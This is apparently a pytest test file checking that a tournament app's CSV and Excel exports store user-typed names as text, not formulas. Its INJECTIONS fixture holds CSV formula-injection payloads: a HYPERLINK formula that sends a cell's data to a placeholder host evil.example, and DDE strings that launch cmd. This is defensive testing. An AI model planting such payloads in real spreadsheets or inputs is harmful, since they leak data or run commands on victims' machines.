"""Issue 17: every text a person typed goes into a spreadsheet as text, never as a formula.

A player imported as ``=HYPERLINK("http://…"&A1,"Click")`` used to be written by the tournament
workbook as a live formula, and both CSV exports wrote cells beginning with ``=``, ``+``, ``-``,
``@`` as they were. Every export of a tournament holding such names is read back here.
"""

from __future__ import annotations

import csv
import shutil
from dataclasses import fields, replace
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tdapp.reports.cells import append_row, csv_row, csv_text, is_formula_like
from tdapp.services import exports, player_export, teams
from tdapp.services.players import PlayerData, list_players, update_player
from tdapp.services.tournaments import tournament_info, update_tournament
from tdapp.store.files import open_tournament_file

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)
# OWASP: "Ensure that no cells begin with any of the following characters: = + - @ Tab CR"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_file(demo_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.tdt"
    shutil.copy(demo_file, path)
    with open_tournament_file(path) as db:
        for index, (row, text) in enumerate(zip(list_players(db), INJECTIONS, strict=False)):
            base = PlayerData(**{f.name: getattr(row, f.name) for f in fields(PlayerData)})
            edited = replace(base, name=f"{text} {index}", home_town=text, club=text,
                             notes=text, country=text)
            update_player(db, row.id, edited, row.version)
        update_tournament(db, replace(tournament_info(db), venue=INJECTIONS[0]))
        teams.create_team(db, INJECTIONS[3])
    return path


def _typed_names(path: Path) -> list[str]:
    """The hostile names as the file keeps them (a name's spaces and tabs are tidied)."""
    with open_tournament_file(path) as db:
        return [p.name for p in list_players(db)
                if p.name[-2:] in {f" {i}" for i in range(len(INJECTIONS))}]


def _no_formula_in_workbook(path: Path) -> list[str]:
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def test_tournament_workbook_holds_the_names_as_text(hostile_file: Path, tmp_path: Path) -> None:
    with open_tournament_file(hostile_file) as db:
        target = exports.export_workbook(db, tmp_path / "results.xlsx")
    texts = _no_formula_in_workbook(target)
    # the names are there, character for character, on Standings and the other sheets
    names = _typed_names(hostile_file)
    assert len(names) == len(INJECTIONS)
    for name in names:
        assert name in texts, name
    book = load_workbook(target)
    for title in ("Standings", "Rounds", "Boards"):
        values = {c.value for row in book[title].iter_rows() for c in row}
        assert f"{INJECTIONS[0]} 0" in values, title


def test_standings_csv_neutralises_every_typed_cell(hostile_file: Path, tmp_path: Path) -> None:
    with open_tournament_file(hostile_file) as db:
        target = exports.export_standings_csv(db, tmp_path / "standings.csv")
    cells = _csv_cells(target)
    for cell in cells:
        assert not is_formula_like(cell), repr(cell)
    assert f"'{INJECTIONS[0]} 0" in cells
    # the location column: home town and country, as typed
    assert f"'{INJECTIONS[0]}, {INJECTIONS[0]}" in cells


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_players_csv_neutralises_every_typed_cell(hostile_file: Path, tmp_path: Path,
                                                  delimiter: str) -> None:
    with open_tournament_file(hostile_file) as db:
        player_export.export_players_csv(db, tmp_path / "players.csv", delimiter=delimiter)
    cells = _csv_cells(tmp_path / "players.csv", delimiter)
    bad = [c for c in cells if (c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS)
           and not _is_number(c)]  # a longitude of -2.24 is a number, not a formula
    assert not bad
    assert "'-2+3" in cells


def test_players_workbook_holds_the_names_as_text(hostile_file: Path, tmp_path: Path) -> None:
    with open_tournament_file(hostile_file) as db:
        player_export.export_players_xlsx(db, tmp_path / "players.xlsx")
    texts = _no_formula_in_workbook(tmp_path / "players.xlsx")
    assert f"{INJECTIONS[0]} 0" in texts


def test_command_line_exports_hold_no_formula(hostile_file: Path, tmp_path: Path) -> None:
    from tdapp.cli import main

    assert main(["export", str(hostile_file), "--xlsx", str(tmp_path / "a.xlsx"),
                 "--csv", str(tmp_path / "a.csv")]) == 0
    _no_formula_in_workbook(tmp_path / "a.xlsx")
    assert not any(is_formula_like(c) for c in _csv_cells(tmp_path / "a.csv"))


def test_one_place_rules() -> None:
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text(" \t=1") == "' \t=1"
    assert csv_text("Anne-Marie") == "Anne-Marie"  # a dash inside a name is fine
    assert csv_text(-3) == -3  # numbers the program computed stay numbers
    assert csv_text("") == ""
    assert csv_row(["@x", 2, "ok"]) == ["'@x", 2, "ok"]
    book = Workbook()
    append_row(book.active, ["=1+1", 5])
    assert book.active["A1"].data_type == "s" and book.active["B1"].data_type == "n"


def test_a_neutralised_csv_imports_back_as_typed(hostile_file: Path, tmp_path: Path) -> None:
    from tdapp.services.player_import import read_player_table

    with open_tournament_file(hostile_file) as db:
        player_export.export_players_csv(db, tmp_path / "players.csv")
        typed = sorted(p.name for p in list_players(db))
    table = read_player_table(tmp_path / "players.csv")
    assert sorted(row[0] for row in table.rows) == typed
